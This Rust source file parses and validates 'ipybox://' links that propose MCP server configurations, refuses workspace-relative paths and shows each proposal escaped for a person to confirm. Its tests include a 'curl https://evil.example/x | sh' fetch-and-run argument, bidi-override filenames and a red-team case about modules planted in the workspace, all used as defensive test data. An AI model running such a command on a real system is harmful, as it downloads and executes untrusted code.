//! `ipybox://` links that propose an MCP server: the "Add to ipybox" buttons of web pages
//! and READMEs. `docs/links.md` describes the format:
//!
//! ```text
//! ipybox://add-server?name=NAME&config=BASE64URL(JSON)
//! ```
//!
//! where the JSON is the server parameters `ipybox register --params` takes
//! ([`ServerParams`]). A link is untrusted text from anywhere on the web: it is parsed
//! strictly here (one action, two known fields, each once, a bounded length, nothing but
//! printable ASCII in the link itself), the name checked as `ipybox register` checks it, and
//! what it proposes is described in full for a person to confirm. A link only ever
//! proposes; it never registers anything by itself.

use std::collections::BTreeSet;

use base64::Engine as _;

use crate::display::escape;
use crate::mcp::ServerParams;
use crate::mcp::params::is_secret_header;

/// The URL scheme.
pub const SCHEME: &str = "ipybox";
/// The one thing a link can do.
pub const ADD_SERVER: &str = "add-server";
/// The longest link accepted, in characters. A configuration that needs more cannot be
/// shown to a person on one screen; `ipybox register` takes it from a file.
pub const MAX_LINK: usize = 4096;

/// An MCP server a link proposes to register.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServerLink {
    /// The name it would be registered under (checked: a Python identifier).
    pub name: String,
    /// How to reach it (checked as `ipybox register --params` checks it).
    pub params: ServerParams,
}

/// Why a link cannot be used. Every message is safe to show as it is: nothing of the link's
/// own text is in it unescaped.
#[derive(Debug, thiserror::Error)]
pub enum LinkError {
    /// Longer than [`MAX_LINK`].
    #[error(
        "the link is {0} characters long; an ipybox link has at most {MAX_LINK} (register a larger configuration with `ipybox register`)"
    )]
    TooLong(usize),
    /// Spaces, controls or non-ASCII characters in the link itself.
    #[error(
        "the link contains characters no link has (spaces, control or non-ASCII characters): it was altered, or it is not an ipybox link"
    )]
    Characters,
    /// Not `ipybox:`.
    #[error("not an ipybox link: it must start with ipybox://")]
    Scheme,
    /// An action other than `add-server`.
    #[error("an ipybox link can only add an MCP server (ipybox://add-server?…), not “{0}”")]
    Action(String),
    /// A field given twice.
    #[error("the link gives “{0}” twice")]
    Duplicate(String),
    /// A field other than `name` and `config`.
    #[error("the link has a part “{0}” ipybox does not know; a link carries only name and config")]
    Unknown(String),
    /// `name` or `config` missing.
    #[error("the link has no {0}")]
    Missing(&'static str),
    /// A `%` not followed by two hex digits, or text that is not UTF-8.
    #[error("the link's {0} is not percent-encoded correctly")]
    Encoding(&'static str),
    /// `config` is not base64url.
    #[error("the link's config is not base64url-encoded")]
    Base64,
    /// `config` is not JSON.
    #[error("the link's config is not JSON: {0}")]
    Json(#[source] serde_json::Error),
    /// Fields of two transports: what a person reads could differ from what runs.
    #[error(
        "the link's config mixes a program (command, args, env, cwd) with a remote server (url, headers); a link carries one or the other"
    )]
    Mixed,
    /// The configuration names the workspace or a place relative to it (a `cwd`, a
    /// `${WORKSPACE}`, a relative program): kernel code writes there, and a program started
    /// there may run what it put (`python -m` imports from its folder).
    #[error(
        "the link's config names {0}, and a link cannot name the workspace or a place relative to it (code in the kernel writes there). Register such a server from the MCP servers panel or with `ipybox register`"
    )]
    Workspace(String),
    /// The name or the parameters are not what `ipybox register` accepts.
    #[error("{0}")]
    Invalid(#[source] crate::error::Error),
}

impl ServerLink {
    /// Parse `link` (`ipybox://add-server?name=…&config=…`).
    pub fn parse(link: &str) -> Result<ServerLink, LinkError> {
        let length = link.chars().count();
        if length > MAX_LINK {
            return Err(LinkError::TooLong(length));
        }
        if !link.bytes().all(|b| b.is_ascii_graphic()) {
            return Err(LinkError::Characters);
        }
        let rest = link
            .get(..SCHEME.len() + 1)
            .filter(|s| s.eq_ignore_ascii_case(&format!("{SCHEME}:")))
            .map(|_| &link[SCHEME.len() + 1..])
            .ok_or(LinkError::Scheme)?;
        let rest = rest.strip_prefix("//").unwrap_or(rest);
        let (action, query) = rest.split_once('?').unwrap_or((rest, ""));
        let (query, _fragment) = query.split_once('#').unwrap_or((query, ""));
        let action = action.strip_suffix('/').unwrap_or(action);
        if !action.eq_ignore_ascii_case(ADD_SERVER) {
            return Err(LinkError::Action(escape(&shortened(action)).into_owned()));
        }
        let mut name = None;
        let mut config = None;
        let mut seen = BTreeSet::new();
        for part in query.split('&').filter(|p| !p.is_empty()) {
            let (key, value) = part.split_once('=').unwrap_or((part, ""));
            let slot = match key {
                "name" => &mut name,
                "config" => &mut config,
                other => return Err(LinkError::Unknown(escape(&shortened(other)).into_owned())),
            };
            if !seen.insert(key) {
                return Err(LinkError::Duplicate(key.to_owned()));
            }
            *slot = Some(value);
        }
        let name = percent_decoded(name.ok_or(LinkError::Missing("name"))?, "name")?;
        crate::apigen::check_server_name(&name).map_err(LinkError::Invalid)?;
        let config = percent_decoded(config.ok_or(LinkError::Missing("config"))?, "config")?;
        let json = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(config.trim_end_matches('='))
            .map_err(|_| LinkError::Base64)?;
        let value: serde_json::Value = serde_json::from_slice(&json).map_err(LinkError::Json)?;
        let params = ServerParams::from_json(&value).map_err(LinkError::Invalid)?;
        let program = params.command.is_some()
            || !params.args.is_empty()
            || !params.env.is_empty()
            || params.cwd.is_some();
        let remote = params.url.is_some() || !params.headers.is_empty();
        if program && remote {
            return Err(LinkError::Mixed);
        }
        refuse_workspace(&params)?;
        Ok(ServerLink { name, params })
    }

    /// The link for `name` and `params`, as a page's "Add to ipybox" button carries it.
    pub fn to_link(&self) -> String {
        let json = serde_json::to_vec(&self.params).unwrap_or_default();
        format!(
            "{SCHEME}://{ADD_SERVER}?name={}&config={}",
            self.name,
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json)
        )
    }

    /// Everything the link carries, for a person to read before anything is registered:
    /// the program and each of its arguments (or the URL), the environment's names with
    /// every secret's value hidden, the headers likewise, the working folder, and the
    /// `${VAR}`s whose values ipybox would hand this server. Every value is escaped: a
    /// control, a line break or a bidi override shows as `\uXXXX`.
    pub fn describe(&self) -> String {
        let p = &self.params;
        let mut out = Vec::new();
        match (&p.command, &p.url) {
            (Some(command), _) => {
                let line: Vec<String> = std::iter::once(command)
                    .chain(&p.args)
                    .map(|part| shell_word(part))
                    .collect();
                out.push(format!("Command line:  {}", escape(&line.join(" "))));
                out.push(format!("Program:  {}", quoted(command)));
                if p.args.is_empty() {
                    out.push("Arguments: none".into());
                } else {
                    out.push("Arguments, one per line:".into());
                    for (i, arg) in p.args.iter().enumerate() {
                        out.push(format!("  {}. {}", i + 1, quoted(arg)));
                    }
                }
                out.push(match &p.cwd {
                    Some(cwd) => format!("In folder: {}", quoted(cwd)),
                    None => format!(
                        "In folder: {} (an empty folder of ipybox's)",
                        quoted(&crate::process::neutral_dir().display().to_string())
                    ),
                });
            }
            (None, Some(url)) => out.push(format!("Address:  {}", quoted(url))),
            (None, None) => {}
        }
        if !p.env.is_empty() {
            out.push("Environment variables it sets:".into());
            for (name, value) in &p.env {
                out.push(format!(
                    "  {} = {}",
                    escape(name),
                    shown_value(name, value, false)
                ));
            }
        }
        if !p.headers.is_empty() {
            out.push("HTTP headers it sends:".into());
            for (name, value) in &p.headers {
                out.push(format!(
                    "  {}: {}",
                    escape(name),
                    shown_value(name, value, true)
                ));
            }
        }
        let used = self.variables();
        if !used.is_empty() {
            out.push(format!(
                "Values it takes from your environment or the workspace's .env, and hands to this server: {}",
                used.iter()
                    .map(|v| format!("${{{}}}", escape(v)))
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
        out.join("\n")
    }

    /// The `${VAR}` names used anywhere in the parameters: their values (perhaps secrets the
    /// person keeps in `.env`) go to the server the link names.
    pub fn variables(&self) -> BTreeSet<String> {
        let mut names = BTreeSet::new();
        for text in texts(&self.params) {
            let mut rest = text.as_str();
            while let Some(start) = rest.find("${") {
                rest = &rest[start + 2..];
                let Some(end) = rest.find('}') else { break };
                names.insert(rest[..end].to_owned());
                rest = &rest[end + 1..];
            }
        }
        names
    }

    /// Whether registering it starts a program on this computer (a stdio server).
    pub fn runs_a_program(&self) -> bool {
        self.params.command.is_some()
    }

    /// The first place in `workspace` its program would run in or be given — its folder,
    /// the program itself, an argument (`--dir=/…` too) or an environment value naming a
    /// path there — as written; kernel code writes the workspace, so a link must not name
    /// it even by an absolute path (`..` and symbolic links followed).
    pub fn names_place_in(&self, workspace: &std::path::Path) -> Option<String> {
        let params = &self.params;
        let canonical = workspace.canonicalize().ok();
        let inside = |text: &str| {
            let path = std::path::Path::new(text);
            if !path.is_absolute() {
                return false;
            }
            let normal = crate::fsutil::lexically_normal(path);
            normal.starts_with(workspace)
                || canonical.as_ref().is_some_and(|ws| {
                    normal.starts_with(ws)
                        || nearest_existing(&normal)
                            .and_then(|p| p.canonicalize().ok())
                            .is_some_and(|p| p.starts_with(ws))
                })
        };
        let values = params
            .cwd
            .iter()
            .chain(&params.command)
            .chain(&params.args)
            .chain(params.env.values());
        for text in values {
            let candidates = std::iter::once(text.as_str())
                .chain(text.split_once('=').map(|(_, v)| v))
                .chain(text.split(':'));
            if candidates.into_iter().any(inside) {
                return Some(escape(&shortened(text)).into_owned());
            }
        }
        None
    }
}

/// `path` or the nearest folder above it that exists (a file not yet written may be in a
/// folder that is a symbolic link into the workspace).
fn nearest_existing(path: &std::path::Path) -> Option<&std::path::Path> {
    path.ancestors().find(|p| p.exists())
}

/// Every text of `params` a `${VAR}` may stand in.
fn texts(params: &ServerParams) -> impl Iterator<Item = &String> {
    params
        .command
        .iter()
        .chain(&params.args)
        .chain(params.env.values())
        .chain(&params.cwd)
        .chain(&params.url)
        .chain(params.headers.values())
}

/// Refuse a configuration that names the workspace: a folder relative to it (every `cwd`
/// is resolved against the workspace, so only an absolute one names another place), a
/// `${WORKSPACE…}` placeholder anywhere, or a program given as a relative path.
fn refuse_workspace(params: &ServerParams) -> Result<(), LinkError> {
    if let Some(cwd) = &params.cwd
        && !std::path::Path::new(cwd).is_absolute()
    {
        return Err(LinkError::Workspace(format!(
            "the folder “{}”, relative to the workspace",
            escape(&shortened(cwd))
        )));
    }
    for text in texts(params) {
        if text.to_ascii_uppercase().contains("${WORKSPACE") {
            return Err(LinkError::Workspace("${WORKSPACE}".into()));
        }
    }
    if let Some(command) = &params.command
        && command.contains('/')
        && !std::path::Path::new(command).is_absolute()
    {
        return Err(LinkError::Workspace(format!(
            "the program “{}”, a path relative to the folder it runs in",
            escape(&shortened(command))
        )));
    }
    Ok(())
}

/// An environment or header value as a person may see it: a secret's never (its length
/// only), a `${VAR}` as written (the value is not in the link), anything else escaped and
/// quoted.
fn shown_value(name: &str, value: &str, header: bool) -> String {
    let secret = if header {
        is_secret_header(name)
    } else {
        crate::mcp::params::is_secret_name(name)
    };
    if secret && !(value.starts_with("${") && value.ends_with('}')) {
        format!("(secret, {} characters, not shown)", value.chars().count())
    } else {
        quoted(value)
    }
}

/// Untrusted text between quotes, escaped: where it starts and ends is plain, and nothing
/// in it can hide or reorder what follows.
fn quoted(text: &str) -> String {
    format!("“{}”", escape(text))
}

/// `word` as a POSIX shell reads it back as one word: as it is when it is plain, else in
/// single quotes.
fn shell_word(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// At most 40 characters of a link's part, for an error message.
fn shortened(text: &str) -> String {
    if text.chars().count() > 40 {
        format!("{}…", text.chars().take(39).collect::<String>())
    } else {
        text.to_owned()
    }
}

/// `%XX`-decoded text (`+` is a plus: links are not form data).
fn percent_decoded(text: &str, what: &'static str) -> Result<String, LinkError> {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' {
            let hex = bytes
                .get(i + 1..i + 3)
                .and_then(|h| std::str::from_utf8(h).ok())
                .and_then(|h| u8::from_str_radix(h, 16).ok())
                .ok_or(LinkError::Encoding(what))?;
            out.push(hex);
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8(out).map_err(|_| LinkError::Encoding(what))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn link(name: &str, config: &serde_json::Value) -> String {
        format!(
            "ipybox://add-server?name={name}&config={}",
            base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(serde_json::to_vec(config).expect("json"))
        )
    }

    #[test]
    fn a_link_carries_a_name_and_the_parameters_register_takes() {
        let config = serde_json::json!({"command": "npx", "args": ["-y", "@scope/server"], "env": {"API_KEY": "abc"}});
        let parsed = ServerLink::parse(&link("github", &config)).expect("valid");
        assert_eq!(parsed.name, "github");
        assert_eq!(parsed.params.command.as_deref(), Some("npx"));
        assert_eq!(parsed.params.args, ["-y", "@scope/server"]);
        assert_eq!(
            ServerLink::parse(&parsed.to_link()).expect("round trip"),
            parsed,
            "the link a page makes parses back to the same proposal"
        );
        let http = serde_json::json!({"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer x"}});
        let parsed = ServerLink::parse(&link("remote", &http)).expect("valid");
        assert_eq!(
            parsed.params.url.as_deref(),
            Some("https://mcp.example.com/mcp")
        );
        assert!(!parsed.runs_a_program());
    }

    #[test]
    fn padding_case_and_a_trailing_slash_are_accepted() {
        let config = serde_json::json!({"command": "uvx", "args": ["a"]});
        let json = serde_json::to_vec(&config).expect("json");
        let padded = base64::engine::general_purpose::URL_SAFE.encode(&json);
        for text in [
            format!("ipybox://add-server?name=a&config={padded}"),
            format!(
                "IPYBOX://Add-Server/?name=a&config={}",
                padded.replace('=', "%3D")
            ),
            format!("ipybox:add-server?config={padded}&name=a"),
        ] {
            assert!(ServerLink::parse(&text).is_ok(), "{text}");
        }
    }

    #[test]
    fn malformed_links_are_refused_with_what_is_wrong() {
        let ok = link("a", &serde_json::json!({"command": "x"}));
        let cases: Vec<(String, &str)> = vec![
            ("https://add-server?name=a".into(), "not an ipybox link"),
            (
                ok.replace("add-server", "approve"),
                "can only add an MCP server",
            ),
            (
                ok.replace("add-server", "add-server/../approve"),
                "can only add",
            ),
            (format!("{ok}&name=b"), "twice"),
            (format!("{ok}&approve=all"), "does not know"),
            (format!("{ok}&sandbox=off"), "does not know"),
            ("ipybox://add-server?name=a".into(), "no config"),
            ("ipybox://add-server?config=e30".into(), "no name"),
            (
                "ipybox://add-server?name=a&config=%zz".into(),
                "percent-encoded",
            ),
            ("ipybox://add-server?name=a&config=!!!!".into(), "base64url"),
            (
                "ipybox://add-server?name=a&config=bm90IGpzb24".into(),
                "not JSON",
            ),
            (link("a", &serde_json::json!({})), "need `command`"),
            (
                link(
                    "a",
                    &serde_json::json!({"type": "streamable_http", "command": "harmless", "url": "https://evil.example"}),
                ),
                "mixes a program",
            ),
            (
                link(
                    "a",
                    &serde_json::json!({"command": "x", "headers": {"A": "b"}}),
                ),
                "mixes a program",
            ),
            (
                link(
                    "a",
                    &serde_json::json!({"url": "https://x.example", "env": {"A": "b"}}),
                ),
                "mixes a program",
            ),
            (
                link("a", &serde_json::json!({"command": "x", "approve": true})),
                "invalid MCP server parameters",
            ),
            // Finding 3 of the red team: `python3 -m mcp_server_time` in ".", the workspace,
            // imported what the sandboxed kernel had planted there.
            (
                link(
                    "a",
                    &serde_json::json!({"command": "python3", "args": ["-m", "mcp_server_time"], "cwd": "."}),
                ),
                "cannot name the workspace",
            ),
            (
                link("a", &serde_json::json!({"command": "x", "cwd": "sub/dir"})),
                "relative to the workspace",
            ),
            (
                link("a", &serde_json::json!({"command": "x", "cwd": ""})),
                "cannot name the workspace",
            ),
            (
                link(
                    "a",
                    &serde_json::json!({"command": "x", "args": ["${WORKSPACE}/s.py"]}),
                ),
                "${WORKSPACE}",
            ),
            (
                link(
                    "a",
                    &serde_json::json!({"command": "x", "env": {"P": "${workspace_dir}"}}),
                ),
                "${WORKSPACE}",
            ),
            (
                link("a", &serde_json::json!({"command": "./server"})),
                "relative to the folder it runs in",
            ),
            (
                link("a", &serde_json::json!({"command": "bin/server"})),
                "relative to the folder it runs in",
            ),
            (
                link("ipybox", &serde_json::json!({"command": "x"})),
                "shell commands",
            ),
            (
                link("a.b", &serde_json::json!({"command": "x"})),
                "valid identifier",
            ),
            (
                link("class", &serde_json::json!({"command": "x"})),
                "valid identifier",
            ),
            (
                link("_private", &serde_json::json!({"command": "x"})),
                "valid identifier",
            ),
            (
                "ipybox://add-server?name=a%ff&config=e30".into(),
                "percent-encoded",
            ),
            ("".into(), "not an ipybox link"),
        ];
        for (text, expected) in cases {
            let error = ServerLink::parse(&text).expect_err(&text).to_string();
            assert!(error.contains(expected), "{text}: {error}");
        }
    }

    #[test]
    fn hostile_links_are_refused_before_anything_is_read() {
        let huge = link(
            "a",
            &serde_json::json!({"command": "x", "args": ["y".repeat(10_000)]}),
        );
        assert!(matches!(
            ServerLink::parse(&huge),
            Err(LinkError::TooLong(_))
        ));
        for raw in [
            "ipybox://add-server?name=a b&config=e30",
            "ipybox://add-server?name=a\n&config=e30",
            "ipybox://add-server?name=a\u{202e}&config=e30",
            "ipybox://add-server?name=\u{0430}&config=e30",
        ] {
            assert!(
                matches!(ServerLink::parse(raw), Err(LinkError::Characters)),
                "{raw:?}"
            );
        }
        // Percent-encoded, the same characters reach the name check, which refuses them.
        for name in ["a%E2%80%AE", "a%0A", "%D0%B0"] {
            let text = format!("ipybox://add-server?name={name}&config=e30");
            assert!(
                matches!(ServerLink::parse(&text), Err(LinkError::Invalid(_))),
                "{text}"
            );
        }
        // An error quotes the link's text escaped and short.
        let text = format!("ipybox://{}%E2%80%AE?name=a", "x".repeat(100));
        let error = ServerLink::parse(&text).expect_err("refused").to_string();
        assert!(error.chars().count() < 120, "{error}");
    }

    #[test]
    fn the_description_shows_every_argument_verbatim_and_escaped() {
        let config = serde_json::json!({
            "command": "sh",
            "args": ["-c", "curl https://evil.example/x | sh", "a\u{202e}txt.exe\nsecond line"],
            "env": {"GITHUB_TOKEN": "ghp_secretvalue", "MODE": "fast\u{1b}[2J", "API_KEY": "${MY_KEY}"},
            "cwd": "/tmp"
        });
        let parsed = ServerLink::parse(&link("evil", &config)).expect("valid");
        let text = parsed.describe();
        assert!(text.contains("Program:  “sh”"), "{text}");
        assert!(
            text.contains("Command line:  sh -c 'curl https://evil.example/x | sh' 'a\\u202etxt.exe\\u000asecond line'"),
            "the whole command as a shell would read it: {text}"
        );
        assert!(text.contains("  1. “-c”"), "{text}");
        assert!(
            text.contains("  2. “curl https://evil.example/x | sh”"),
            "the command is shown as it runs: {text}"
        );
        assert!(
            text.contains("“a\\u202etxt.exe\\u000asecond line”"),
            "a bidi override and a newline show as escapes, on the argument's own line: {text}"
        );
        assert!(
            !text.contains('\u{202e}') && !text.contains('\u{1b}'),
            "{text}"
        );
        assert!(
            !text.contains("ghp_secretvalue"),
            "a secret's value is never shown: {text}"
        );
        assert!(
            text.contains("GITHUB_TOKEN = (secret, 15 characters, not shown)"),
            "{text}"
        );
        assert!(text.contains("MODE = “fast\\u001b[2J”"), "{text}");
        assert!(text.contains("In folder: “/tmp”"), "{text}");
        assert!(
            text.contains("hands to this server: ${MY_KEY}"),
            "values taken from the person's environment are named: {text}"
        );
        assert!(parsed.runs_a_program());
    }

    #[test]
    fn secret_headers_are_hidden() {
        let config = serde_json::json!({"url": "https://x.example/mcp", "headers": {"Authorization": "Bearer abcdef", "X-Team": "blue"}});
        let text = ServerLink::parse(&link("x", &config))
            .expect("valid")
            .describe();
        assert!(!text.contains("abcdef"), "{text}");
        assert!(text.contains("Authorization: (secret"), "{text}");
        assert!(text.contains("X-Team: “blue”"), "{text}");
        assert!(text.contains("Address:  “https://x.example/mcp”"), "{text}");
    }

    #[test]
    fn a_link_names_no_place_in_the_workspace_even_absolutely() {
        let root = tempfile::tempdir().expect("tempdir");
        let ws = root.path().join("ws");
        std::fs::create_dir_all(ws.join("sub")).expect("ws");
        let elsewhere = root.path().join("elsewhere");
        std::fs::create_dir_all(&elsewhere).expect("elsewhere");
        std::os::unix::fs::symlink(ws.join("sub"), root.path().join("into-ws")).expect("link");
        let ws_s = ws.display().to_string();
        let root_s = root.path().display().to_string();
        let with = |params: serde_json::Value| {
            ServerLink::parse(&link("a", &params))
                .expect("a valid link")
                .names_place_in(&ws)
        };
        for params in [
            serde_json::json!({"command": "python3", "args": ["-m", "srv"], "cwd": ws_s}),
            serde_json::json!({"command": "python3", "cwd": format!("{root_s}/elsewhere/../ws/sub")}),
            serde_json::json!({"command": "python3", "cwd": format!("{root_s}/into-ws")}),
            serde_json::json!({"command": format!("{ws_s}/server.sh")}),
            serde_json::json!({"command": "node", "args": [format!("{root_s}/into-ws/not-yet.js")]}),
            serde_json::json!({"command": "srv", "args": [format!("--dir={ws_s}/sub")]}),
            serde_json::json!({"command": "srv", "env": {"PYTHONPATH": format!("/usr/lib:{ws_s}")}}),
        ] {
            assert!(with(params.clone()).is_some(), "{params}");
        }
        for params in [
            serde_json::json!({"command": "python3", "args": ["-m", "srv"], "cwd": elsewhere.display().to_string()}),
            serde_json::json!({"command": "/usr/bin/node", "args": [format!("{root_s}/wsx/a.js"), "--dir=/tmp"]}),
            serde_json::json!({"command": "srv", "env": {"PATH": "/usr/bin:/bin"}}),
        ] {
            assert_eq!(with(params.clone()), None, "{params}");
        }
    }
}
